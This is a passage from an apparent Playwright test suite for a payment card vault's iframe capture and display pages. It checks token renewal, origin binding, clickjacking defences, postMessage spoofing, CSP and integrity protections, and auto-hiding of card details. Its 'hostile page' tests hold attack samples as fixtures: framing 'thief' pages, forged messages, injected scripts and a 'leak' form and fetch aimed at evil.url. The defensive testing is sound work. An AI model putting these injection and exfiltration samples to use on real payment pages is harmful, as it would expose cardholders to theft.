      // The vault stores the card, and its answers stay away.
      await answer((route) => route.fetch().then(() => new Promise(() => {})));
      // Its time begins in the frame, once the page's message has arrived there.
      const sent = page.waitForRequest((request) => request.method() === 'POST');
      const submitted = submit();
      await sent;
      for (let second = 0; second < 44; second += 1) {
        await page.clock.runFor(1_000);
        await frame.evaluate('0');
      }
      expect(await submitted).toBe('no_answer');
      expect(await values(frame)).toEqual(typedValues);
      expect(await statusOf(frame)).toBe('No answer has come yet. Please try again.');
      await page.unroute('**/capture_form*');
      expect(await submit()).toMatch(token);
      expect(cards() - before).toBe(1);
    });

    it('a form with a token that is too old takes another one, and keeps the typed card', async () => {
      const { frame } = await openShop();
      await fill(frame);
      vault.inMemory.clock.now = new Date(vault.inMemory.clock.now.getTime() + 900_000);
      expect(await submit()).toBe('session_expired');
      expect(await page.evaluate('events')).toEqual(['ready', 'expired']);
      expect(await values(frame)).toEqual(typedValues);
      const fresh = await vault.session({ scope: 'card', origin: shop.url });
      await page.evaluate(`form.renew(${JSON.stringify(fresh)})`);
      await page.waitForFunction("events.join() === 'ready,expired,ready'");
      expect(frame.isDetached()).toBe(false);
      expect(await statusOf(frame)).toBe('');
      expect(await submit()).toMatch(token);
    });

    it('a form that has stored a card takes another token, and keeps the name and the expiry only', async () => {
      const { frame } = await openShop();
      await fill(frame);
      const first = await submit();
      const fresh = await vault.session({ scope: 'card', origin: shop.url });
      await page.evaluate(`form.renew(${JSON.stringify(fresh)})`);
      await page.waitForFunction("events.join() === 'ready,ready'");
      expect(await values(frame)).toEqual(['', 'ANA LIMA', '08 / 31', '']);
      expect(await errorOf(frame, 'card_number')).toBe('');
      await frame.locator('#card_number').pressSequentially('4111111111111111');
      await frame.locator('#service_code').pressSequentially('123');
      const second = await submit();
      expect(second).toMatch(token);
      expect(second).not.toBe(first);
    });

    it('a form that is sending goes on with another token, and the answer for the first one is not used', async () => {
      const { frame } = await openShop();
      await fill(frame);
      const arrived = Promise.withResolvers<void>();
      await answer((_, at) => {
        if (at > 1) return undefined;
        arrived.resolve();
        return new Promise(() => {});
      });
      const submitted = submit();
      await arrived.promise;
      const fresh = await vault.session({ scope: 'card', origin: shop.url });
      await page.evaluate(`form.renew(${JSON.stringify(fresh)})`);
      expect(await submitted).toBe('session_expired');
      expect(await submit()).toMatch(token);
      expect(await page.evaluate('events')).toEqual(['ready', 'ready']);
    });

    it('a form takes no token of another page', async () => {
      const { frame } = await openShop();
      await fill(frame);
      const before = cards();
      const other = await vault.session({ scope: 'card', origin: 'https://other.example' });
      await page.evaluate(`form.renew(${JSON.stringify(other)})`);
      await page.waitForFunction("events.join() === 'ready,ready'");
      expect(await submit()).toBe('scope_mismatch');
      expect(cards()).toBe(before);
      expect(await values(frame)).toEqual(typedValues);
    });

    it('a form takes no token from another window than its parent', async () => {
      const { frame } = await openShop();
      await fill(frame);
      const fresh = await vault.session({ scope: 'card', origin: shop.url });
      const message = JSON.stringify({ type: 'renew', session_token: fresh });
      await page.evaluate(`{
        const sibling = document.createElement('iframe');
        document.body.append(sibling);
        sibling.contentWindow.eval("parent.frames[0].postMessage(${message.replaceAll('"', "'")}, '*')");
      }`);
      // Its answer comes after that to the message.
      expect(await page.evaluate('form.validate()')).toBe(true);
      expect(await page.evaluate('events')).toEqual(['ready']);
    });

    it('a form that does not answer the message with another token is opened anew', async () => {
      const { frame } = await openShop();
      const arrival = Promise.withResolvers<void>();
      // A frame whose page has gone, as after a crash of its process.
      await frame.evaluate('location.replace("about:blank")');
      await page.clock.install();
      const fresh = await vault.session({ scope: 'card', origin: shop.url });
      await page.evaluate(`form.renew(${JSON.stringify(fresh)})`);
      await page.clock.runFor(4_001);
      arrival.resolve();
      await page.waitForFunction("events.join() === 'ready,ready'");
      await fill(await formFrame());
      expect(await submit()).toMatch(token);
    });

    it('a form that is taken away while sending rejects, and its token stores one card at most', async () => {
      const { frame } = await openShop();
      await fill(frame);
      const before = cards();
      const arrived = Promise.withResolvers<void>();
      await answer((route) => {
        arrived.resolve();
        return route.fetch().then(() => new Promise(() => {}));
      });
      const submitted = submit();
      await arrived.promise;
      await page.evaluate('form.destroy()');
      expect(await submitted).toBe('destroyed');
      await eventually(() => expect(cards() - before).toBe(1));
      expect(complaints).toEqual([]);
    });
  });

  describe('a hostile page', () => {
    /** A page of another origin that frames the form. */
    const thief = (address: string, policy = 'origin') => `<!doctype html><title>Evil</title>
<link rel="icon" href="data:,"><script>window.heard = [];
addEventListener('message', ({ origin, data }) => heard.push({ origin, data }));
setInterval(() => { for (const word of ['submit', 'validate']) frames[0]?.postMessage(word, '*'); }, 20);</script>
<iframe src="${address}" referrerpolicy="${policy}"></iframe>`;

    it.each(['origin', 'no-referrer'])(
      'a hostile page cannot embed a form that is bound to another page, and gets no message (%s)',
      async (policy) => {
        const token = await vault.session({ scope: 'card', origin: shop.url });
        evil.html = thief(`${vault.url}/api/v1/capture_form?session_token=${token}`, policy);
        await page.goto(evil.strangeUrl);
        await eventually(() => expect(complaints.join()).toContain('frame-ancestors'));
        await eventually(() =>
          expect(page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/'),
        );
        expect(await heard()).toEqual([]);
      },
    );

    it('a hostile page cannot embed a page with a number, whatever they hide', async () => {
      const card_token = await aTypedCard(vault.inMemory);
      const token = await vault.session({ scope: 'show_card', card_token, origin: shop.url });
      const address = `${vault.url}/api/v1/show_card?card_token=${card_token}&session_token=${token}`;
      evil.html = thief(address, 'no-referrer');
      await page.goto(evil.strangeUrl);
      await eventually(() => expect(complaints.join()).toContain('frame-ancestors'));
      expect(await heard()).toEqual([]);
    });

    it('a hostile page cannot embed anything over plain http where the vault is deployed', async () => {
      const token = await vault.session({ scope: 'card' });
      shop.html = thief(`${vault.url}/api/v1/capture_form?session_token=${token}`);
      process.env.LOOPBACK_ALLOWED = 'false';
      try {
        await page.goto(shop.url);
        await eventually(() => expect(complaints.join()).toContain('frame-ancestors https:'));
      } finally {
        process.env.LOOPBACK_ALLOWED = 'true';
      }
    });

    it('a hostile page gets no message when its origin is unknown', async () => {
      const token = await vault.session({ scope: 'card' });
      const address = `${vault.url}/api/v1/capture_form?session_token=${token}`;
      shop.html = thief(address, 'no-referrer');
      await page.goto(shop.url);
      const frame = await formFrame();
      await fill(frame);
      expect(await heard()).toEqual([]);
      // Their words were not heeded either.
      expect(await errorOf(frame, 'card_number')).toBe('');
      // A page that may be known is spoken with, although its token names no origin.
      const other = await vault.session({ scope: 'card' });
      shop.html = thief(`${vault.url}/api/v1/capture_form?session_token=${other}`, 'origin');
      await page.goto(shop.url);
      await eventually(async () => expect(await types()).toContain('ready'));
    });

    it('commands nothing from another frame of the same page', async () => {
      const { frame } = await openShop();
      evil.html = `<!doctype html><script>setInterval(() => {
        for (const word of ['submit', 'validate']) parent.frames[0].postMessage(word, '*'); }, 10);</script>`;
      await page.evaluate(`for (const src of [${JSON.stringify(evil.strangeUrl)}, undefined]) {
        const frame = document.createElement('iframe');
        if (src) frame.src = src;
        document.body.append(frame);
        // One of the shop's own origin as well: it is not the parent.
        if (!src) frame.contentWindow.eval("setInterval(() => parent.frames[0].postMessage('validate', '*'), 10)");
      }`);
      await page.waitForTimeout(400);
      expect(await types()).not.toContain('validate');
      expect(await types()).not.toContain('submit');
      expect(await errorOf(frame, 'card_number')).toBe('');
      expect(await page.evaluate('form.validate()')).toBe(false);
    });

    it('a hostile page is answered that the form is not for it, without a retry', async () => {
      const sessionToken = await vault.session({ scope: 'show_card', origin: shop.url });
      shop.html = shopPage({ sessionToken });
      await page.goto(shop.url);
      await eventually(async () => expect(await types()).toContain('submit'));
      expect(await page.evaluate('form.submit().catch(({ code }) => code)')).toBe('scope_mismatch');
      expect(await page.evaluate('events')).toEqual(['scope_mismatch']);
      await page.evaluate('form.destroy()');
      expect(await page.evaluate('form.submit().catch(({ code }) => code)')).toBe('destroyed');
      expect(await page.locator('iframe').count()).toBe(0);
    });

    it('a hostile page forges no answers to the shop', async () => {
      await openShop();
      evil.html = `<!doctype html><script>setInterval(() =>
        parent.postMessage({ type: 'submit', card: { card_token: 'forged' } }, '*'), 10);</script>`;
      await page.evaluate(`{ const frame = document.createElement('iframe');
        frame.src = ${JSON.stringify(evil.strangeUrl)}; document.body.append(frame); }`);
      await page.waitForFunction('heard.some(({ data }) => data.card)');
      await page.getByRole('button', { name: 'Pay' }).click();
      expect(await outcome()).toMatchObject({ code: 'validation_error' });
    });

    it('a hostile page changes no script: a browser that is given other bytes runs none of them', async () => {
      vault.onTheWay = (path, text) =>
        path.endsWith(pages.capture.file) ? `${text};window.stolen=true` : text;
      shop.html = shopPage({
        sessionToken: await vault.session({ scope: 'card', origin: shop.url }),
      });
      await page.goto(shop.url);
      const frame = await formFrame();
      await eventually(() => expect(complaints.join()).toContain('integrity'));
      await frame.locator('#card_number').pressSequentially('5555555');
      expect(await frame.locator('#card_number').inputValue()).toBe('5555555');
      expect(await frame.evaluate('window.stolen')).toBeUndefined();
      expect(await types()).toEqual([]);
    });

    it('a hostile page adds no script: neither one in the page, nor in an attribute, nor of another name', async () => {
      const added = `<script>window.stolen = 'inline'</script><img src="data:," onerror="window.stolen = 'attribute'">
        <script src="${evil.url}/?script"></script><script src="${vault.url}/assets/${pages.show.file}"></script>
        <style>body { color: rgb(1, 2, 3) }</style><base href="${evil.url}">
        <form id="leak" action="${evil.url}" method="get"><input name="a" value="b"></form>`;
      vault.onTheWay = (path, text) =>
        path.endsWith('/capture_form') ? text.replace('<main', `${added}<main`) : text;
      const { frame } = await openShop();
      await frame.evaluate('document.getElementById("leak").submit()');
      await frame.evaluate(`fetch(${JSON.stringify(evil.url)}).catch(() => 0)`);
      expect(
        await frame.evaluate(
          'try { document.body.innerHTML = "<b>x</b>"; "made" } catch { "refused" }',
        ),
      ).toBe('refused');
      expect(await frame.evaluate('window.stolen')).toBeUndefined();
      expect(await frame.evaluate('getComputedStyle(document.body).color')).not.toBe(
        'rgb(1, 2, 3)',
      );
      expect(await frame.evaluate('document.baseURI')).toContain(vault.url);
      expect(
        complaints.filter((one) => /Content Security Policy/.test(one)).length,
      ).toBeGreaterThan(5);
      await fill(frame);
      await page.getByRole('button', { name: 'Pay' }).click();
      expect(await outcome()).toHaveProperty('card');
    });
  });

  describe('the page that shows a card', () => {
    async function openShown(withCode = true, colorScheme: 'light' | 'dark' = 'light') {
      const card_token = await aTypedCard(vault.inMemory);
      const query = new URLSearchParams({
        card_token,
        session_token: await vault.session({ scope: 'show_card', card_token, origin: shop.url }),
        ...(withCode && {
          service_code_token: await vault.session({ scope: 'show_service_code', card_token }),
        }),
      });
      await page.emulateMedia({ colorScheme });
      shop.html = `<!doctype html><html lang="en"><title>Shop</title><link rel="icon" href="data:,">
<script>window.heard = []; addEventListener('message', ({ origin, data }) => heard.push({ origin, data }));</script>
<main><h1>Shop</h1><iframe title="Card" width="400" height="220" sandbox="allow-scripts allow-same-origin"
src="${vault.url}/api/v1/show_card?${query}"></iframe></main></html>`;
      await page.goto(shop.url);
      const frame = await formFrame();
      await eventually(async () => expect(await types()).toContain('shown'));
      return { frame, card_token };
    }

    it('the card page shows the number, and the shop gets a message that it was shown and no more', async () => {
      const { frame, card_token } = await openShown(false);
      await frame.getByText('5555 5555 5555 4444').waitFor();
      expect(await frame.getByRole('button').count()).toBe(0);
      const messages = await heard();
      expect(messages.filter(({ data }) => data.type !== 'resize')).toEqual([
        { origin: vault.url, data: { type: 'shown', what: 'card', card_token } },
      ]);
      expect(withoutRandom(JSON.stringify(messages))).not.toMatch(/\b4444\b/);
      expect(await frame.evaluate('location.href')).toBe(`${vault.url}/api/v1/show_card`);
      expect(await context.storageState()).toEqual({ cookies: [], origins: [] });
      expect(complaints).toEqual([]);
    });

    it('the card page loads the service code on request, once', async () => {
      const { frame, card_token } = await openShown();
      expect(withoutRandom(await textOf(frame))).not.toContain('737');
      await frame.getByRole('button', { name: 'Show' }).click();
      await frame.getByText('737', { exact: true }).waitFor();
      expect(await frame.getByRole('button').count()).toBe(0);
      const shown = (await heard()).filter(({ data }) => data.type === 'shown');
      expect(shown.map(({ data }) => data)).toEqual([
        { type: 'shown', what: 'card', card_token },
        { type: 'shown', what: 'service_code', card_token },
      ]);
      const held = await vault.inMemory.vault.codes.expiryOf(
        'shop',
        [card_token],
        vault.inMemory.clock.now,
      );
      expect(held.size).toBe(0);
    });

    it('the card page reports that the cvc is gone when another request was first', async () => {
      const { frame, card_token } = await openShown();
      await vault.inMemory.vault.codes.remove({
        tenant: 'shop',
        cardToken: card_token,
        reason: 'test',
        origin: 'test',
        requestId: 'r',
        actor: { kind: 'job', id: 'test' },
        now: vault.inMemory.clock.now,
      });
      await frame.getByRole('button', { name: 'Show' }).click();
      await frame.getByText('No longer available').waitFor();
    });

    it('the card page removes everything after a minute', async () => {
      await page.clock.install();
      const { frame } = await openShown();
      await frame.getByRole('button', { name: 'Show' }).click();
      await frame.getByText('737', { exact: true }).waitFor();
      // The page's clock goes on by itself as well, and a slow machine may take seconds until here.
      await page.clock.runFor(30_000);
      expect(await frame.content()).toContain('5555 5555 5555 4444');
      await page.clock.runFor(31_000);
      await frame.getByText('The details have been hidden for your security.').waitFor();
      const content = await textOf(frame);
      expect(withoutRandom(content)).not.toContain('4444');
      expect(withoutRandom(content)).not.toContain('737');
    });

    it('the card page removes everything once its tab is hidden', async () => {
      const { frame } = await openShown();
      await frame.evaluate(`Object.defineProperty(document, 'visibilityState', { get: () => 'hidden' });
        document.dispatchEvent(new Event('visibilitychange'))`);
      await frame.getByText('The details have been hidden for your security.').waitFor();
      expect(withoutRandom(await textOf(frame))).not.toContain('4444');
    });

    it('the card page is not printed', async () => {
      const { frame } = await openShown();
      expect(await frame.getByText('Card details are not printed.').isVisible()).toBe(false);
      await page.emulateMedia({ media: 'print' });
      expect(await frame.getByText('5555 5555 5555 4444').isVisible()).toBe(false);
      expect(await frame.getByText('ANA LIMA').isVisible()).toBe(false);
      expect(await frame.getByText('Card details are not printed.').isVisible()).toBe(true);
    });

    it.each(['light', 'dark'] as const)(
      'the card page has no finding of axe in the %s',
      async (scheme) => {
        const { frame } = await openShown(true, scheme);
        expect(await flaws(frame)).toEqual([]);
        await frame.getByRole('button', { name: 'Show' }).click();
        await frame.getByText('737', { exact: true }).waitFor();
        expect(await flaws(frame)).toEqual([]);
      },
    );

    it('the card page opens once: a later visit is answered that it has expired', async () => {
      const { frame } = await openShown();
      await page.reload();
      const again = await formFrame();
      await again.getByRole('heading', { name: 'This page has expired.' }).waitFor();
      expect(withoutRandom(await textOf(again))).not.toContain('4444');
      expect(await flaws(again)).toEqual([]);
      expect(frame.isDetached()).toBe(true);
    });

    it('the card page has a sibling that shows only the service code', async () => {
      const card_token = await aTypedCard(vault.inMemory);
      const session_token = await vault.session({ scope: 'show_service_code', card_token });
      const query = new URLSearchParams({ card_token, session_token });
      await page.goto(`${vault.url}/api/v1/show_service_code?${query}`);
      await page.getByText('737', { exact: true }).waitFor();
      expect(page.url()).toBe(`${vault.url}/api/v1/show_service_code`);
      expect(await flaws(page)).toEqual([]);
      await page.emulateMedia({ media: 'print' });
      expect(await page.getByText('737', { exact: true }).isVisible()).toBe(false);
      expect(withoutRandom(await textOf(page))).not.toContain('4444');
    });
  });
});
